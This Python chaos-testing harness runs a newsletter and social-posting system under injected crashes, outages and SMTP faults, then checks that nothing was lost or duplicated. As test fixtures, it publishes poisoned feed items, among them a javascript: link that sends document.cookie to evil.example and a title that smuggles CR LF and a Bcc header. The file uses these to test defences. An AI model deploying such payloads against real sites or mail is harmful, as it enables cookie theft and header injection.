"""Chaos: the whole system as deployed, for minutes, with faults injected at random moments; then everything
it was asked to do is held against what the outside world received.

    python bench/chaos.py                                   # both stores, >= 100 faults each (~10 min each)
    python bench/chaos.py --store postgres --short          # >= 30 faults in about 3 minutes (CI runs this)
    python bench/chaos.py --store embedded --seconds 600 --faults 200 --seed 7

What runs, as `syndicate run` runs it, each a process of its own: two Celery workers (`-Q ingest,mail,social`,
prefork, 2 processes each) and Celery beat: the real scheduler, nothing here calls a tick. On two stores:

  postgres  Redis and PostgreSQL of this run's own (a redis-server without persistence and an `initdb`
            cluster, on free ports in the temp folder), so that killing them never touches the machine's
            services or a test's;
  embedded  the defaults of a fresh install: SQLite and the embedded broker, no Redis, no PostgreSQL.

The outside world lives in this process: a news site (an RSS feed and story pages with an image) that
publishes a story every few seconds, in four scripts; an SMTP server (aiosmtpd) with 160-odd readers of two
newsletters cut every minute; X, Mastodon and Bluesky (chaos_peers.py; X at its real host through an
intercepting proxy, since tweepy can't be pointed elsewhere). SYNDICATE_CLAIM_TIMEOUT is 60 s, the
shortest allowed, so that a dead worker's rows come back within the run.

Faults, each kind several times, at random moments (the table says how many and when):

  kill-pool       SIGKILL one pool process of a worker: its task goes back to the broker
  kill-worker     SIGKILL a whole worker, main process and pool; started again 2-8 s later
  kill-beat       SIGKILL beat; started again 2-10 s later
  redis-down      SIGKILL Redis; started again, empty, 60 s later (20 s with --short)
  pg-restart      PostgreSQL restarted (`pg_ctl restart -m fast`): every connection cut mid-transaction
  smtp-421        every connection told 421 at MAIL, for 2 minutes (30 s with --short)
  smtp-452        the next 3 recipients deferred at RCPT
  smtp-550        the next recipient refused for good (the reader is then suppressed)
  smtp-stall      the next connection never answered (the client's 5 s deadline ends it)
  smtp-drop       the line dropped after a message's data, before the reply: the server holds a copy
                  the sender never heard of
  social-*        one network answers every post with 429, 503, nothing (timeout) or a 502 after taking
                  it (taken-then-502), for 5-20 s
  poison-*        a poisoned story: its link is javascript:, has spaces, is non-ASCII; its title is an
                  RFC 2047 encoded word hiding CR LF and a Bcc header; its link's host can't be parsed and
                  its body is nested 3,000 elements deep. And all along, a newsletter whose sender the
                  server refuses at MAIL FROM (each of its editions must end `failed`, and none may hold
                  the other newsletter up).

Then the faults stop, everything that is down is started, and the run waits for the system to settle
(nothing open, nothing new for 10 s; at most --settle seconds). The reconciliation, lane by lane:

  mail    each delivery of each edition against the Message-IDs the server holds: `sent` and held once is
          right; `failed`/`skipped` is right only for a reader the server refused (smtp-550) or a sender it
          refuses; sent and not held, or refused by nobody and not sent, is lost; a second copy is a
          duplicate; open (pending, sending, deferred) at the end is stuck. Every stored story must be in
          an edition of the daily newsletter. A message with a header the template doesn't write is
          counted as injected.
  social  each (story, account): `posted` and on the network once; `ambiguous` (an attempt went unanswered)
          and on it at most once; `skipped` is right only for a story with no web address of its own (a
          javascript: link and no permalink guid: no teaser, never the feed's address); otherwise
          `failed`/`skipped`, no post, or posted and not on the network, is lost; pending/sending at the
          end is stuck.
  ingest  every story published is stored, but the broken item, which may be skipped; no feed left failing.

Duplicates are allowed only inside the documented windows, counted per fault: one per killed worker or
pool process, one per dropped line, and one per sending pool process at a PostgreSQL restart (a message
the server took whose "sent" mark died with the connection). Prints the fault table and one JSON line per
store (`faults`, `kills`, `lost`, `duplicates`, `window`, `stuck`, per-lane counts); exits 0 whatever it
finds. The processes' logs stay in the temp folder with --keep.
"""

from __future__ import annotations

import argparse
import asyncio
import grp
import heapq
import html
import json
import math
import os
import pwd
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from datetime import datetime
from email.parser import BytesHeaderParser
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote, urlsplit

import redis
from aiosmtpd.controller import Controller
from sqlalchemy import func, insert, select

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from chaos_peers import SocialPeers  # noqa: E402

from ingest import code_version  # noqa: E402
from syndicate import db, tasks  # noqa: E402
from syndicate.config import Settings  # noqa: E402
from syndicate.db import transaction  # noqa: E402
from syndicate.ingest import feeds  # noqa: E402
from syndicate.ledger import MAIL_OPEN  # noqa: E402
from syndicate.mail.message import message_id  # noqa: E402
from syndicate.models import (  # noqa: E402
    Article,
    Delivery,
    Edition,
    EditionArticle,
    Feed,
    Newsletter,
    Post,
    SocialAccount,
    Subscriber,
    Subscription,
    utcnow,
)
from syndicate.newsletters import lists  # noqa: E402
from syndicate.social import accounts  # noqa: E402

POISONS = ("javascript-link", "space-in-link", "non-ascii-link", "encoded-word-title", "broken-item")
NETWORKS = ("x", "mastodon", "bluesky")
NETWORK_FAULTS = ("429", "503", "timeout", "taken-then-502", "taken-then-timeout")
# kind → weight in the plan; None: a long outage, a fixed number of times
WEIGHTS = {
    "kill-pool": 12, "kill-worker": 7, "kill-beat": 5, "redis-down": None, "pg-restart": 4,
    "smtp-421": None, "smtp-452": 7, "smtp-550": 5, "smtp-stall": 5, "smtp-drop": 10,
    **{f"social-{kind}": 4 for kind in NETWORK_FAULTS},
    **{f"poison-{kind}": 3 for kind in POISONS},
}
ONLY_WITH_SERVERS = ("redis-down", "pg-restart")  # the embedded store has no server to take down
WORKERS, CONCURRENCY = 2, 2
ALERT_READERS = 5
# What the edition template writes, and what the transport adds: anything else came from a feed.
HEADERS = {"from", "to", "subject", "date", "message-id", "mime-version", "content-type", "list-id",
           "list-unsubscribe", "list-unsubscribe-post", "precedence", "auto-submitted", "feedback-id",
           "x-auto-response-suppress", "dkim-signature", "content-transfer-encoding", "reply-to"}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_for(condition, timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise RuntimeError(f"timed out waiting for {what}")
        time.sleep(0.1)


# ── the news site ────────────────────────────────────────────────────────────

SCRIPTS = [  # the site publishes in several languages: titles and leads of every script
    ("Council votes on the harbour plan, part {n}", "The vote came after a long night of debate."),
    ("Stadtrat stimmt über Hafenplan ab – Teil {n}", "Die Abstimmung folgte auf eine lange Debatte."),
    ("港湾計画で市議会が採決 その{n}", "長い議論の末に採決が行われた。"),
    ("المجلس يصوت على خطة الميناء {n}", "جاء التصويت بعد ليلة طويلة من النقاش."),
]


@dataclass
class Story:
    number: int
    title: str
    link: str
    poison: str | None = None
    published: datetime = field(default_factory=utcnow)

    @property
    def must_be_stored(self) -> bool:
        """Every story but the broken item, which may be stored or skipped (but must stop nothing)."""
        return self.poison != "broken-item"


class NewsSite:
    """A WordPress-like site: /feed/ (RSS 2.0, the newest 40 items), /story/<n>/ pages with an og:image."""

    def __init__(self):
        self.stories: list[Story] = []
        self.lock = threading.Lock()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the http.server API
                path = unquote(urlsplit(self.path).path)
                if path == "/feed/":
                    self.answer(200, "application/rss+xml; charset=utf-8", site.feed())
                elif path.startswith("/story/"):
                    self.answer(200, "text/html; charset=utf-8", site.page(path))
                elif path == "/image.png":
                    self.answer(200, "image/png", PNG)
                else:
                    self.answer(404, "text/plain", b"not found")

            def answer(self, status: int, kind: str, body: bytes) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.feed_url = f"{self.base}/feed/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def publish(self, poison: str | None = None) -> Story:
        with self.lock:
            n = len(self.stories) + 1
            title, _ = SCRIPTS[n % len(SCRIPTS)]
            title, link = title.format(n=n), f"{self.base}/story/{n}/"
            if poison == "javascript-link":
                link = "javascript:fetch('//evil.example/'+document.cookie)"
            elif poison == "space-in-link":
                link = f"{self.base}/story/{n}/the plan explained/"
            elif poison == "non-ascii-link":
                link = f"{self.base}/story/{n}/東京-猛暑対策/?q=北京"
            elif poison == "encoded-word-title":
                title = f"=?utf-8?q?Story_{n}=0D=0ABcc:_victim@example.org=0D=0A=0D=0A<h1>owned</h1>?="
            elif poison == "broken-item":  # a host that can't be parsed, in a body nested 3,000 deep
                link = f"http://[harbour/story/{n}/"
            self.stories.append(Story(n, title, link, poison))
            return self.stories[-1]

    def feed(self) -> bytes:
        with self.lock:
            stories = self.stories[-40:]
        items = []
        for story in reversed(stories):
            _, lead = SCRIPTS[story.number % len(SCRIPTS)]
            permalink = story.poison is None or story.poison.endswith("title")
            guid = story.link if permalink else f"story-{story.number}"
            body = f"<p>{lead} Story {story.number}.</p>"
            if story.poison == "broken-item":
                body = "<div>" * 3000 + body + "</div>" * 3000
            items.append(
                "<item>"
                + f"<title>{html.escape(story.title)}</title><link>{html.escape(story.link)}</link>"
                + f'<guid isPermaLink="{str(permalink).lower()}">{html.escape(guid)}</guid>'
                + f"<pubDate>{format_datetime(story.published)}</pubDate>"
                + f"<description>{html.escape(body)}</description>"
                + "</item>")
        return ('<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
                f"<title>Harbour Times</title><link>{self.base}/</link><description>News</description>"
                f"{''.join(items)}</channel></rss>").encode()

    def page(self, path: str) -> bytes:
        return (f'<html><head><title>{html.escape(path)}</title>'
                f'<meta property="og:image" content="{self.base}/image.png">'
                '<meta property="og:description" content="A story."></head><body><p>A story.</p></body></html>'
                ).encode()


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000105fe0a5d0f0000000049454e44ae426082")


# ── the mail server ──────────────────────────────────────────────────────────


@dataclass
class MailServer:
    """aiosmtpd, told to misbehave by the chaos loop. Holds (recipient, Message-ID) of every message it
    took in whole, answered or not."""

    held: list[tuple[str, str]] = field(default_factory=list)
    refused: set[str] = field(default_factory=set)  # recipients refused for good, by smtp-550
    refuse_senders: tuple[str, ...] = ("@refused.example",)
    injected: list[str] = field(default_factory=list)  # headers no template writes
    throttle_until: float = 0.0
    stall: int = 0
    drop: int = 0
    defer: int = 0
    refuse: int = 0
    answered: Counter = field(default_factory=Counter)  # what the faults did: 421, 452, 550, stalled, dropped

    async def handle_EHLO(self, server, session, envelope, hostname, responses):  # noqa: N802
        session.host_name = hostname
        if self.stall > 0:
            self.stall -= 1
            self.answered["stalled"] += 1
            await asyncio.sleep(3600)  # cancelled when the client hangs up
        responses.insert(1, "250-PIPELINING")
        return responses

    async def handle_MAIL(self, server, session, envelope, address, mail_options):  # noqa: N802
        if time.monotonic() < self.throttle_until:
            self.answered["421"] += 1
            return "421 4.7.0 Too many connections, try again later"
        if address.endswith(self.refuse_senders):
            self.answered["550 sender"] += 1
            return "550 5.7.1 Sender rejected: not authorised to send for this domain"
        envelope.mail_from = address
        envelope.mail_options.extend(mail_options)
        return "250 OK"

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):  # noqa: N802
        if address in self.refused:
            return "550 5.1.1 No such mailbox"
        if self.refuse > 0:
            self.refuse -= 1
            self.refused.add(address)
            self.answered["550"] += 1
            return "550 5.1.1 No such mailbox"
        if self.defer > 0:
            self.defer -= 1
            self.answered["452"] += 1
            return "452 4.2.2 Mailbox full, try again later"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server, session, envelope):  # noqa: N802
        headers = BytesHeaderParser().parsebytes(envelope.original_content)
        self.injected.extend(name for name in headers.keys() if name.lower() not in HEADERS)
        for recipient in envelope.rcpt_tos:
            self.held.append((recipient, headers["Message-ID"]))
        if self.drop > 0:
            self.drop -= 1
            self.answered["dropped"] += 1
            server.transport.close()
            await asyncio.sleep(3600)
        return "250 2.0.0 Ok: queued"


# ── the servers this run owns: Redis, PostgreSQL, the workers, beat ──────────


def _children(pid: int) -> list[int]:
    """A worker's pool: /proc lists children per thread, and a replacement is forked by the pool's
    supervisor thread, not the main one."""
    pids = []
    for children in Path(f"/proc/{pid}/task").glob("*/children"):
        try:
            pids += [int(p) for p in children.read_text().split() if not _gone(int(p))]
        except FileNotFoundError:
            pass
    return sorted(pids)


def _gone(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rpartition(")")[2].split()[0] in ("Z", "X")
    except FileNotFoundError:
        return True


class Process:
    """A process of the system in a group of its own; its output appended to <folder>/<name>.log."""

    def __init__(self, name: str, argv: list[str], env: dict[str, str], folder: Path):
        self.name, self.argv, self.env, self.folder = name, argv, env, folder
        self.process: subprocess.Popen | None = None
        self.starts = 0
        self.down = False  # taken down on purpose, to be started by a follow-up

    def start(self) -> None:
        if self.alive():
            return
        self.starts += 1
        with (self.folder / f"{self.name}.log").open("a") as log:
            log.write(f"\n=== start {self.starts} at {time.strftime('%H:%M:%S')} ===\n")
            log.flush()
            self.process = subprocess.Popen(self.argv, env=self.env, stdout=log, stderr=subprocess.STDOUT,
                                            start_new_session=True)
        self.down = False

    def alive(self) -> bool:
        return self.process is not None and self.process.poll() is None

    def pool(self) -> list[int]:
        return _children(self.process.pid) if self.alive() else []

    def kill(self) -> None:
        if self.alive():
            try:
                os.killpg(self.process.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            self.process.wait()
        self.down = True

    def stop(self) -> None:
        if self.alive():
            os.killpg(self.process.pid, signal.SIGTERM)
            try:
                self.process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait()


class PrivateRedis:
    def __init__(self, folder: Path):
        self.port = free_port()
        self.url = f"redis://127.0.0.1:{self.port}/0"
        self.process = Process("redis", ["redis-server", "--port", str(self.port), "--bind", "127.0.0.1",
                                         "--save", "", "--appendonly", "no", "--dir", str(folder)],
                               dict(os.environ), folder)

    def start(self) -> None:
        self.process.start()
        client = redis.Redis(port=self.port)

        def answers() -> bool:
            try:
                return client.ping()
            except redis.ConnectionError:
                return False

        wait_for(answers, 10, "redis-server")
        client.close()


class PrivatePostgres:
    """An `initdb` cluster of this run's own on a free port; as root, run as the postgres user."""

    def __init__(self, folder: Path):
        found = sorted(Path("/usr/lib/postgresql").glob("*/bin/initdb")) if Path("/usr/lib/postgresql").exists() else []
        initdb = found[-1] if found else shutil.which("initdb")
        if not initdb:
            raise RuntimeError("PostgreSQL's initdb is not installed (Debian: apt-get install postgresql)")
        self.bin = Path(initdb).parent
        self.folder, self.port = folder / "postgres", free_port()
        self.url = f"postgresql://postgres@127.0.0.1:{self.port}/chaos"
        self.folder.mkdir()
        self.as_user: list[str] = []
        if os.geteuid() == 0:  # initdb and postgres refuse to run as root
            user = pwd.getpwnam("postgres")
            os.chown(self.folder, user.pw_uid, grp.getgrnam("postgres").gr_gid)
            os.chmod(folder, 0o755)
            self.as_user = ["runuser", "-u", "postgres", "--"]

    def _run(self, *argv: str) -> None:
        subprocess.run([*self.as_user, *argv], check=True, capture_output=True, timeout=120)

    def _ctl(self, *argv: str) -> None:
        options = f"-p {self.port} -k {self.folder} -c listen_addresses=127.0.0.1 -c max_connections=100"
        self._run(str(self.bin / "pg_ctl"), "-D", str(self.folder / "data"), "-l", str(self.folder / "log"),
                  "-o", options, "-w", *argv)

    def start(self) -> None:
        self._run(str(self.bin / "initdb"), "-D", str(self.folder / "data"), "-U", "postgres", "-A", "trust",
                  "-E", "UTF8", "--no-sync")
        self._ctl("start")
        self._run(str(self.bin / "createdb"), "-h", "127.0.0.1", "-p", str(self.port), "-U", "postgres", "chaos")

    def restart(self) -> None:
        self._ctl("-m", "fast", "restart")

    def stop(self) -> None:
        try:
            self._ctl("-m", "immediate", "stop")
        except subprocess.CalledProcessError:
            pass


# ── one run ──────────────────────────────────────────────────────────────────


@dataclass
class Fault:
    at: float  # seconds into the run
    kind: str
    detail: str = ""


class Run:
    def __init__(self, store: str, args, folder: Path):
        self.store, self.args, self.folder = store, args, folder
        self.random = random.Random(args.seed)
        self.site = NewsSite()
        self.mail = MailServer()
        self.mail_port = free_port()
        self.controller = Controller(self.mail, hostname="127.0.0.1", port=self.mail_port)
        self.peers = SocialPeers(folder / "peers")
        (folder / "peers").mkdir()
        (folder / "logs").mkdir()
        self.redis = PrivateRedis(folder) if store == "postgres" else None
        self.postgres = PrivatePostgres(folder) if store == "postgres" else None
        self.faults: list[Fault] = []
        self.kills = 0
        self.crashes: Counter = Counter()
        self.started = time.monotonic()
        self.follow_ups: list[tuple[float, int, object]] = []  # (when, n, action): restarts after a fault

    # ── set up ──

    def environment(self) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("SYNDICATE_")}
        env.update(
            SYNDICATE_DATA_DIR=str(self.folder / "data"), SYNDICATE_SECRET_KEY="chaos-secret",
            SYNDICATE_BASE_URL="http://news.example", SYNDICATE_ALLOW_PRIVATE_FEEDS="1",
            SYNDICATE_SMTP_URL=f"smtp://127.0.0.1:{self.mail_port}?timeout=5",
            SYNDICATE_POLL_INTERVAL="5", SYNDICATE_TICK_INTERVAL="2", SYNDICATE_BATCH_SIZE="20",
            SYNDICATE_RETRY_BASE="5", SYNDICATE_RETRY_MAX="20", SYNDICATE_CLAIM_TIMEOUT="60",
        )
        if self.store == "postgres":
            env.update(SYNDICATE_DATABASE_URL=self.postgres.url, SYNDICATE_BROKER_URL=self.redis.url)
        return env

    def set_up(self) -> None:
        if self.redis:
            self.redis.start()
            self.postgres.start()
        self.controller.start()
        self.peers.start()
        env = self.environment()
        self.settings = Settings.from_env(env)
        self.svc = tasks.configure(self.settings)
        db.upgrade(self.svc.engine)
        now = utcnow()
        readers = self.args.readers
        with transaction(self.svc.Session) as session:
            daily = lists.add_newsletter(session, slug="daily", name="The Daily", from_address="news@news.example",
                                         cron="* * * * *", max_items=30)
            alerts = lists.add_newsletter(session, slug="alerts", name="Alerts",
                                          from_address="alerts@refused.example", cron="* * * * *")
            feeds.add_feed(session, self.site.feed_url)
            domains = ("example.org", "example.net", "mail.example", "post.example")
            people = [dict(email=f"reader{i}@{domains[i % len(domains)]}", name=f"Reader {i}", status="confirmed",
                           confirmed_at=now, created_at=now) for i in range(readers)]
            people += [dict(email=f"alert{i}@example.org", status="confirmed", confirmed_at=now, created_at=now)
                       for i in range(ALERT_READERS)]
            session.execute(insert(Subscriber), people)
            ids = dict(session.execute(select(Subscriber.email, Subscriber.id)).all())
            session.execute(insert(Subscription), [
                dict(subscriber_id=ids[p["email"]], created_at=now, status="active",
                     newsletter_id=alerts.id if p["email"].startswith("alert") else daily.id) for p in people])
            pace = dict(window="always", min_gap=0, daily_cap=100_000)
            accounts.add(session, self.settings.secret_key, "x-desk", "x", pace,
                         dict(consumer_key="ck", consumer_secret="cs", access_token="at", access_token_secret="ats"))
            accounts.add(session, self.settings.secret_key, "mastodon-desk", "mastodon",
                         dict(pace, instance=self.peers.mastodon_url), dict(access_token="mastodon-token"))
            accounts.add(session, self.settings.secret_key, "bluesky-desk", "bluesky",
                         dict(pace, handle="desk.bsky.example", service=self.peers.bluesky_url),
                         dict(app_password="app-pass-word"))
        for _ in range(3):
            self.site.publish()
        worker_env = dict(env, **self.peers.worker_env)
        celery = [sys.executable, "-m", "celery", "-A", "syndicate.tasks"]
        logs = self.folder / "logs"
        self.workers = [Process(f"worker-{i + 1}", celery + [
            "worker", "-Q", "ingest,mail,social", "--pool", "prefork", "--concurrency", str(CONCURRENCY),
            "--loglevel", "INFO", "-n", f"chaos-{i + 1}@%h"], worker_env, logs) for i in range(WORKERS)]
        self.beat = Process("beat", celery + ["beat", "--loglevel", "INFO", "--schedule",
                                              str(self.folder / "data" / "celerybeat-schedule")], worker_env, logs)
        for process in (*self.workers, self.beat):
            process.start()

    # ── the chaos ──

    def plan(self) -> list[Fault]:
        """At least --faults faults, each kind at least twice (long outages: once or twice), at random times."""
        kinds = {k: w for k, w in WEIGHTS.items() if self.store == "postgres" or k not in ONLY_WITH_SERVERS}
        long_ones = [k for k, w in kinds.items() if w is None]
        times = 1 if self.args.short else 2
        weighted = {k: w for k, w in kinds.items() if w is not None}
        scale = max(0, self.args.faults - times * len(long_ones)) / sum(weighted.values())
        counts = {k: max(2, math.ceil(w * scale)) for k, w in weighted.items()}
        span = self.args.seconds
        faults = [Fault(self.random.uniform(5, span - 10), kind) for kind, n in counts.items() for _ in range(n)]
        outage = self.outage()
        for kind in long_ones:  # spread out so that they don't overlap each other
            slots = [(i + 0.5) * span / times for i in range(times)]
            faults += [Fault(max(5.0, min(at + self.random.uniform(-10, 10), span - outage[kind] - 5)), kind)
                       for at in slots]
        return sorted(faults, key=lambda f: f.at)

    def outage(self) -> dict[str, float]:
        return {"redis-down": 20 if self.args.short else 60, "smtp-421": 30 if self.args.short else 120}

    def later(self, seconds: float, action) -> None:
        heapq.heappush(self.follow_ups, (time.monotonic() + seconds, len(self.follow_ups) + id(action) % 997, action))

    def inject(self, fault: Fault) -> bool:
        """False when there was nothing to hit (every worker down): the fault is tried again shortly."""
        kind, r = fault.kind, self.random
        if kind == "kill-pool":
            pools = [(w, pid) for w in self.workers for pid in w.pool()]
            if not pools:
                return False
            worker, pid = r.choice(pools)
            os.kill(pid, signal.SIGKILL)
            self.kills += 1
            fault.detail = f"{worker.name} pool pid {pid}"
        elif kind == "kill-worker":
            up = [w for w in self.workers if w.alive()]
            if not up:
                return False
            worker = r.choice(up)
            worker.kill()
            self.kills += 1
            back = r.uniform(2, 8)
            self.later(back, worker.start)
            fault.detail = f"{worker.name}, back in {back:.0f} s"
        elif kind == "kill-beat":
            if not self.beat.alive():
                return False
            self.beat.kill()
            back = r.uniform(2, 10)
            self.later(back, self.beat.start)
            fault.detail = f"back in {back:.0f} s"
        elif kind == "redis-down":
            if not self.redis.process.alive():
                return False
            self.redis.process.kill()
            self.later(self.outage()[kind], self.redis.start)
            fault.detail = f"{self.outage()[kind]:.0f} s, back empty"
        elif kind == "pg-restart":
            self.postgres.restart()
            fault.detail = "fast restart"
        elif kind == "smtp-421":
            self.mail.throttle_until = time.monotonic() + self.outage()[kind]
            fault.detail = f"{self.outage()[kind]:.0f} s"
        elif kind == "smtp-452":
            self.mail.defer += 3
        elif kind == "smtp-550":
            self.mail.refuse += 1
        elif kind == "smtp-stall":
            self.mail.stall += 1
        elif kind == "smtp-drop":
            self.mail.drop += 1
        elif kind.startswith("social-"):
            network, seconds = r.choice(NETWORKS), r.uniform(5, 20)
            self.peers.fault(network, kind.removeprefix("social-"), seconds)
            fault.detail = f"{network}, {seconds:.0f} s"
        elif kind.startswith("poison-"):
            story = self.site.publish(poison=kind.removeprefix("poison-"))
            fault.detail = f"story {story.number}"
        self.faults.append(fault)
        return True

    def supervise(self) -> None:
        """A process that died without being killed here is counted and started again, as systemd would."""
        for process in (*self.workers, self.beat):
            if not process.down and not process.alive():
                self.crashes[process.name] += 1
                process.start()
        if self.redis and not self.redis.process.down and not self.redis.process.alive():
            self.crashes["redis"] += 1
            self.redis.start()

    def chaos(self) -> None:
        plan, every = self.plan(), self.args.story_every
        next_story = time.monotonic() + every
        self.started = start = time.monotonic()
        end = start + self.args.seconds
        while time.monotonic() < end or self.follow_ups:
            now = time.monotonic()
            while plan and start + plan[0].at <= now:
                fault = plan.pop(0)
                fault.at = now - start
                if not self.inject(fault):
                    fault.at += 2
                    plan = sorted([*plan, fault], key=lambda f: f.at)
                    break
            while self.follow_ups and self.follow_ups[0][0] <= now:
                heapq.heappop(self.follow_ups)[2]()
            if now >= next_story and now < end:
                self.site.publish()
                next_story = now + every
            self.supervise()
            time.sleep(0.2)

    # ── settling ──

    def calm(self) -> None:
        """The outages end. One-shot SMTP faults still armed (a drop, a stall, a 452 or 550 waiting for the
        next message, since a 421 outage held every message back) stay armed: the last editions meet them."""
        self.mail.throttle_until = 0
        for network in NETWORKS:
            self.peers.fault(network, None, 0)

    def stored(self) -> dict[int, Story]:
        """The stories stored, by article id: each story's lead ends "Story <n>.", whatever its title and
        link became."""
        numbers = {story.number: story for story in self.site.stories}
        with transaction(self.svc.Session) as session:
            leads = session.execute(select(Article.id, Article.lead)).all()
        return {id: numbers.get(int(m[1])) for id, lead in leads if (m := re.search(r"Story (\d+)\.", lead or ""))}

    def open_work(self) -> dict[str, int]:
        numbers = {story.number for story in self.stored().values() if story}
        unread = sum(story.must_be_stored and story.number not in numbers for story in self.site.stories)
        with transaction(self.svc.Session) as session:
            daily = session.scalar(select(Newsletter.id).where(Newsletter.slug == "daily"))
            stored = session.scalar(select(func.count()).select_from(Article))
            return dict(
                editions=session.scalar(select(func.count()).select_from(Edition)
                                        .where(Edition.status.in_(("sending", "scheduled", "draft")))),
                deliveries=session.scalar(select(func.count()).select_from(Delivery)
                                          .where(Delivery.status.in_(MAIL_OPEN))),
                posts=session.scalar(select(func.count()).select_from(Post)
                                     .where(Post.status.in_(("pending", "held", "sending")))),
                unmailed=stored - session.scalar(select(func.count(func.distinct(EditionArticle.article_id)))
                                                 .where(EditionArticle.newsletter_id == daily)),
                unread=unread,
            )

    def settle(self) -> float:
        """Wait until nothing is open and nothing changed for 10 s (or --settle seconds pass)."""
        self.calm()
        started = time.monotonic()
        last, since = None, time.monotonic()
        while time.monotonic() - started < self.args.settle:
            self.supervise()
            try:
                look = (self.open_work(), len(self.mail.held), sum(len(self.peers.posts(n)) for n in NETWORKS))
            except Exception as e:  # noqa: BLE001 - a store still starting: look again
                look = (repr(e),)
            if look != last:
                last, since = look, time.monotonic()
            if isinstance(look[0], dict) and not any(look[0].values()) and time.monotonic() - since >= 10:
                break
            time.sleep(1)
        return time.monotonic() - started

    def shut_down(self) -> None:
        """Everything this run started, whatever got started before a failure."""
        for process in (*getattr(self, "workers", ()), *filter(None, [getattr(self, "beat", None)])):
            process.stop()
        self.controller.stop()
        self.peers.stop()
        self.site.server.shutdown()
        if hasattr(self, "svc"):
            self.svc.close()
        if self.redis:
            self.redis.process.kill()
            self.postgres.stop()

    # ── reconciliation ──

    def reconcile(self) -> dict:
        held = Counter(mid for _, mid in self.mail.held)
        open_work = self.open_work()
        with transaction(self.svc.Session) as session:
            domains = dict(session.execute(select(Newsletter.id, Newsletter.from_address)).all())
            rows = session.execute(
                select(Delivery.id, Delivery.edition_id, Delivery.status, Subscriber.email, Edition.newsletter_id)
                .join(Subscriber, Subscriber.id == Delivery.subscriber_id)
                .join(Edition, Edition.id == Delivery.edition_id)
            ).all()
            edition_states = Counter(session.execute(
                select(Newsletter.slug, Edition.status).join(Newsletter, Newsletter.id == Edition.newsletter_id)).all())
            posts = session.execute(select(Post.article_id, Post.status, Post.text, SocialAccount.network, Article.url)
                                    .join(SocialAccount, SocialAccount.id == Post.account_id)
                                    .join(Article, Article.id == Post.article_id)).all()
            feeds_failing = session.scalar(select(func.count()).select_from(Feed).where(Feed.error_count > 0))
        mail = Counter()
        for row in rows:
            domain = domains[row.newsletter_id].rpartition("@")[2]
            copies = held[message_id(domain, self.settings.secret_key, row.id, row.edition_id)]
            refused = row.email in self.mail.refused or domains[row.newsletter_id].endswith(self.mail.refuse_senders)
            mail["deliveries"] += 1
            mail[row.status] += 1
            if row.status == "sent":
                mail["lost"] += copies == 0
                mail["duplicates"] += max(0, copies - 1)
            elif row.status in ("failed", "skipped"):
                mail["lost"] += not refused
                mail["duplicates"] += copies
            else:
                mail["stuck"] += 1
        mail["injected headers"] = len(self.mail.injected)
        mail["stories never mailed"] = open_work["unmailed"]
        mail["lost"] += open_work["unmailed"]

        story_of = self.stored()
        on_network = {n: Counter(p["text"] for p in self.peers.posts(n)) for n in NETWORKS}
        social = Counter()
        posted_for = Counter()
        for post in posts:
            copies = on_network[post.network][post.text]
            social["posts"] += 1
            social[post.status] += 1
            posted_for[(post.article_id, post.network)] += 1
            if post.status == "posted":
                social["lost"] += copies == 0
                social["duplicates"] += max(0, copies - 1)
            elif post.status == "ambiguous":
                social["duplicates"] += max(0, copies - 1)
            elif post.status == "skipped" and not post.url:
                social["no link, skipped"] += 1  # right: a story with no address of its own gets no teaser
                social["duplicates"] += copies
            elif post.status in ("failed", "skipped"):
                social["lost"] += 1
                social["duplicates"] += copies
            else:
                social["stuck"] += 1
        for article_id in story_of:
            for network in NETWORKS:
                social["no post"] += not posted_for[(article_id, network)]
        social["lost"] += social["no post"]

        ingest = Counter(published=len(self.site.stories), stored=len(story_of),
                         poisoned=sum(s.poison is not None for s in self.site.stories),
                         unread=open_work["unread"], feeds_failing=feeds_failing)
        ingest["lost"] = open_work["unread"]
        kinds = Counter(f.kind for f in self.faults)
        window = self.kills + self.mail.answered["dropped"] + kinds["pg-restart"] * WORKERS * CONCURRENCY
        # One-shot SMTP faults that no message met before the end (counted as injected, but had no effect).
        unused = self.mail.drop + self.mail.stall + self.mail.defer + self.mail.refuse
        stuck = mail["stuck"] + social["stuck"] + open_work["editions"]
        return dict(
            store=self.store, commit=code_version(), seconds=round(self.args.seconds), faults=len(self.faults),
            unused_smtp_faults=unused,
            kinds=dict(sorted(kinds.items())), kills=self.kills, crashes=dict(self.crashes),
            lost=mail["lost"] + social["lost"] + ingest["lost"],
            duplicates=mail["duplicates"] + social["duplicates"], window=window, stuck=stuck,
            injected=mail["injected headers"],
            mail=dict(mail), editions={f"{slug} {status}": n for (slug, status), n in sorted(edition_states.items())},
            social=dict(social), ingest=dict(ingest), server=dict(self.mail.answered),
            networks={f"{n} {k}": v for (n, k), v in sorted(self.peers.faults_answered().items())},
        )


def table(run: Run, result: dict, settled: float) -> None:
    print(f"\n── {run.store}: {len(run.faults)} faults in {run.args.seconds:.0f} s, settled in {settled:.0f} s ──")
    print(f"{'at s':>6}  {'fault':<26} detail")
    for fault in run.faults:
